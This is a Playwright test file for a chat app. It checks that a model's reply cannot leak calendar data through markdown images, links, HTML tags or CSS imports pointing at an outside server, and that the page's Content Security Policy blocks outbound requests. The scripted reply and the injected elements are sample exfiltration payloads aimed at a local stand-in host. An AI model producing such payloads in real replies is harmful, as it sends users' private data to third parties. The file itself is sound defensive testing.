import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'playwright/test';
import { scriptedTest as test } from './scripted-test.ts';

/** A stranger's server, and everything it was ever asked. What is in the calendar must not get there. */
let stranger: Server;
let heard: string[];
let place: string;

test.beforeAll(async () => {
  stranger = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
  place = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
});
test.afterAll(() => void stranger.close());
test.beforeEach(() => void (heard = []));

test('a reply neither loads nor links what the model made up', async ({ page, world }) => {
  const person = await world.enter('leaks');
  const chatId = randomUUID();
  const asked = `Look at ${place}/mine please`;
  world.teachWords(
    asked,
    [
      `![chart](${place}/image?q=Dentist)`,
      `[the agenda](${place}/link?q=Dentist)`,
      `<img src="${place}/html?q=Dentist"><iframe src="${place}/frame"></iframe>`,
      `<style>@import url(${place}/style)</style>`,
      `[x]: ${place}/definition?q=Dentist`,
      `You wrote ${place}/mine`,
    ].join('\n\n'),
  );
  await person.say(chatId, asked);
  await page.context().addCookies((await person.http.storageState()).cookies);
  await page.goto(`/chat/${chatId}`, { waitUntil: 'networkidle' });
  const reply = page.getByRole('article');
  await expect(reply.getByText(`the agenda (${place}/link?q=Dentist)`)).toBeVisible();
  await expect(reply.getByText(`Image: chart (${place}/image?q=Dentist)`)).toBeVisible();
  await expect(reply.getByRole('link')).toHaveCount(1);
  await expect(reply.getByRole('link')).toHaveAttribute('href', `${place}/mine`);
  await expect(page.locator(`img[src^="${place}"], iframe[src^="${place}"]`)).toHaveCount(0);
  expect(heard).toEqual([]);
});

test.describe('should anything get onto the page all the same', () => {
  test.use({ expectedNoise: [/Content Security Policy|violates|Failed to fetch/] });

  test('its policy lets nothing out to another host', async ({ page, world }) => {
    const person = await world.enter('leaks');
    await page.context().addCookies((await person.http.storageState()).cookies);
    await page.goto('/');
    const refused = await page.evaluate(async (to) => {
      const directives = new Set<string>();
      document.addEventListener('securitypolicyviolation', (event) => {
        directives.add(event.effectiveDirective);
      });
      const put = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
        document.body.append(element);
        return element;
      };
      put('img', { src: `${to}/img` });
      put('iframe', { src: `${to}/frame` });
      put('script', { src: `${to}/script` });
      put('link', { rel: 'stylesheet', href: `${to}/style` });
      put('audio', { src: `${to}/media` });
      put('object', { data: `${to}/object` });
      navigator.sendBeacon(`${to}/beacon`, 'secret');
      const form = put('form', { action: `${to}/form`, method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
      await fetch(`${to}/fetch`).catch(() => undefined);
      await new FontFace('x', `url(${to}/font)`).load().catch(() => undefined);
      // A refusal is told in its own time; the ninth is the last.
      while (directives.size < 9) await new Promise((resolve) => setTimeout(resolve, 20));
      return [...directives].toSorted();
    }, place);
    expect(refused).toEqual([
      'connect-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'object-src',
      'script-src-elem',
      'style-src-elem',
    ]);
    expect(heard).toEqual([]);
    expect(page.url()).not.toContain(place);
  });
});
